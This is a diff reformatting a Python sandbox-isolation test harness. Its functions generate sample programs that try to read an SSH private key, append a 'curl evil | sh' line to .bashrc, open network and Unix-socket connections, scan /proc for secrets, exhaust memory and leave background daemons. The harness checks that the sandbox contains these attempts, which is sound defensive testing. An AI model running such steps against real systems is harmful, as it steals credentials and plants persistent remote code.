@@ -78,14 +78,19 @@ def attack_home(home: Path) -> dict:
     key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- secret-key-material\n")
     key.chmod(0o600)
     bashrc.write_text("# the user's shell setup\n")
-    program = (f"import sys\n"
-               f"try:\n    sys.stderr.write('KEY:' + open({str(key)!r}).read())\n"
-               f"except OSError as exc:\n    sys.stderr.write('no key: %r\\n' % exc)\n"
-               f"try:\n    open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')\n"
-               f"except OSError as exc:\n    sys.stderr.write('no bashrc: %r\\n' % exc)\n")
+    program = (
+        f"import sys\n"
+        f"try:\n    sys.stderr.write('KEY:' + open({str(key)!r}).read())\n"
+        f"except OSError as exc:\n    sys.stderr.write('no key: %r\\n' % exc)\n"
+        f"try:\n    open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')\n"
+        f"except OSError as exc:\n    sys.stderr.write('no bashrc: %r\\n' % exc)\n"
+    )
     seen = _run(program)
-    return {**seen, "key_read": "secret-key-material" in seen["stderr"],
-            "bashrc_changed": "evil" in bashrc.read_text()}
+    return {
+        **seen,
+        "key_read": "secret-key-material" in seen["stderr"],
+        "bashrc_changed": "evil" in bashrc.read_text(),
+    }
 
 
 def attack_project(project: Path) -> dict:
@@ -101,7 +106,8 @@ def attack_project(project: Path) -> dict:
         "except OSError as exc:\n    out.append(('read', repr(exc)))\n"
         f"try:\n    open({str(marker)!r}, 'w').write('x')\n    out.append(('write', 'ok'))\n"
         "except OSError as exc:\n    out.append(('write', repr(exc)))\n"
-        "sys.stderr.write(repr(out))\n")
+        "sys.stderr.write(repr(out))\n"
+    )
     seen = _run(program)
     escaped = marker.exists()
     if escaped:
@@ -124,13 +130,14 @@ def attack_network() -> dict:
         f"addr = struct.pack('!HH4s8x', 2, {port}, socket.inet_aton({host!r}))\n"
         "addr = struct.pack('=H', 2) + addr[2:]\n"
         "rc = libc.connect(fd, addr, len(addr))\n"
-        "sys.stderr.write('ctypes: %d errno %d\\n' % (rc, ctypes.get_errno()))\n")
+        "sys.stderr.write('ctypes: %d errno %d\\n' % (rc, ctypes.get_errno()))\n"
+    )
     seen = _run(program)
     return {**seen, "connections": tcp.close()}
 
 
 def attack_unix_sockets(workspace: Path) -> dict:
-    agent = Listener(str(workspace / "agent.sock"))          # as ssh-agent's socket
+    agent = Listener(str(workspace / "agent.sock"))  # as ssh-agent's socket
     in_tmp = Listener(f"/tmp/bbjtune-test-{secrets.token_hex(4)}.sock")
     program = (
         "import socket, sys\n"
@@ -139,7 +146,8 @@ def attack_unix_sockets(workspace: Path) -> dict:
         "        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.sendall(b'hello')\n"
         "        sys.stderr.write('reached %s\\n' % path)\n"
         "    except OSError as exc:\n"
-        "        sys.stderr.write('refused %s: %r\\n' % (path, exc))\n")
+        "        sys.stderr.write('refused %s: %r\\n' % (path, exc))\n"
+    )
     seen = _run(program)
     reached = agent.close() + in_tmp.close()
     os.unlink(in_tmp.address)
@@ -159,7 +167,8 @@ def attack_proc() -> dict:
         "        except OSError:\n"
         "            pass\n"
         "sys.stderr.write('PIDS %d\\n' % len(pids))\n"
-        "sys.stderr.write('\\n'.join(found)[-1200:])\n")
+        "sys.stderr.write('\\n'.join(found)[-1200:])\n"
+    )
     seen = _run(program)
     pids = int(seen["stderr"].split("PIDS ", 1)[1].split()[0]) if "PIDS " in seen["stderr"] else -1
     return {**seen, "visible_pids": pids, "secret_seen": bool(SECRET) and SECRET in seen["stderr"]}
@@ -167,32 +176,36 @@ def attack_proc() -> dict:
 
 def attack_memory() -> dict:
     # six children of 200 MiB each: far below the 512 MiB limit one by one, 1.2 GiB together
-    program = ("import os, time\n"
-               "for _ in range(6):\n"
-               "    if os.fork() == 0:\n"
-               "        block = bytearray(200 << 20)\n"
-               "        time.sleep(15)\n"
-               "        os._exit(0)\n"
-               "time.sleep(15)\n")
+    program = (
+        "import os, time\n"
+        "for _ in range(6):\n"
+        "    if os.fork() == 0:\n"
+        "        block = bytearray(200 << 20)\n"
+        "        time.sleep(15)\n"
+        "        os._exit(0)\n"
+        "time.sleep(15)\n"
+    )
     return _run(program)
 
 
 def attack_leftovers() -> dict:
     marker = f"bbjtune-leftover-{secrets.token_hex(4)}"
-    program = ("import sys\n"
-               f"for d in ('/tmp', '/var/tmp', '/dev/shm'):\n"
-               "    try:\n"
-               f"        open(d + '/{marker}', 'wb').write(b'x' * 4096)\n"
-               "    except OSError as exc:\n"
-               "        sys.stderr.write('%s: %r\\n' % (d, exc))\n"
-               # 300 MiB in RAM through /dev/shm
-               "try:\n"
-               f"    with open('/dev/shm/{marker}-big', 'wb') as fh:\n"
-               "        for _ in range(300):\n"
-               "            fh.write(b'x' * (1 << 20))\n"
-               "    sys.stderr.write('shm: wrote 300 MiB\\n')\n"
-               "except OSError as exc:\n"
-               "    sys.stderr.write('shm: %r\\n' % exc)\n")
+    program = (
+        "import sys\n"
+        f"for d in ('/tmp', '/var/tmp', '/dev/shm'):\n"
+        "    try:\n"
+        f"        open(d + '/{marker}', 'wb').write(b'x' * 4096)\n"
+        "    except OSError as exc:\n"
+        "        sys.stderr.write('%s: %r\\n' % (d, exc))\n"
+        # 300 MiB in RAM through /dev/shm
+        "try:\n"
+        f"    with open('/dev/shm/{marker}-big', 'wb') as fh:\n"
+        "        for _ in range(300):\n"
+        "            fh.write(b'x' * (1 << 20))\n"
+        "    sys.stderr.write('shm: wrote 300 MiB\\n')\n"
+        "except OSError as exc:\n"
+        "    sys.stderr.write('shm: %r\\n' % exc)\n"
+    )
     seen = _run(program)
     left = [str(p) for d in ("/tmp", "/var/tmp", "/dev/shm") for p in Path(d).glob(marker + "*")]
     for path in left:
@@ -202,15 +215,17 @@ def attack_leftovers() -> dict:
 
 def attack_background() -> dict:
     marker = f"bbjtune_daemon_{secrets.token_hex(4)}"
-    program = ("import os, subprocess, sys, time\n"
-               "if os.fork() == 0:\n"
-               "    os.setsid()\n"
-               "    if os.fork() == 0:\n"
-               f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; {marker} = 1; time.sleep(30)'])\n"
-               "    os._exit(0)\n"
-               "time.sleep(0.5)\n")
+    program = (
+        "import os, subprocess, sys, time\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; {marker} = 1; time.sleep(30)'])\n"
+        "    os._exit(0)\n"
+        "time.sleep(0.5)\n"
+    )
     seen = _run(program)
-    still = _processes_with(marker)          # right away: nothing may outlive the sample, even briefly
+    still = _processes_with(marker)  # right away: nothing may outlive the sample, even briefly
     for line in still:
         pid = line.split()[0]
         if pid.isdigit():
@@ -221,10 +236,17 @@ def attack_background() -> dict:
 def main() -> None:
     home, project = Path.home(), Path.cwd()
     (project / "pyproject.toml").write_text("[project]\nname = 'project-secret'\n")
-    report = {"isolation": detect_isolation().describe(),
-              "home": attack_home(home), "project": attack_project(project), "network": attack_network(),
-              "unix_sockets": attack_unix_sockets(home), "proc": attack_proc(), "memory": attack_memory(),
-              "leftovers": attack_leftovers(), "background": attack_background()}
+    report = {
+        "isolation": detect_isolation().describe(),
+        "home": attack_home(home),
+        "project": attack_project(project),
+        "network": attack_network(),
+        "unix_sockets": attack_unix_sockets(home),
+        "proc": attack_proc(),
+        "memory": attack_memory(),
+        "leftovers": attack_leftovers(),
+        "background": attack_background(),
+    }
     print(json.dumps(report))
 
 
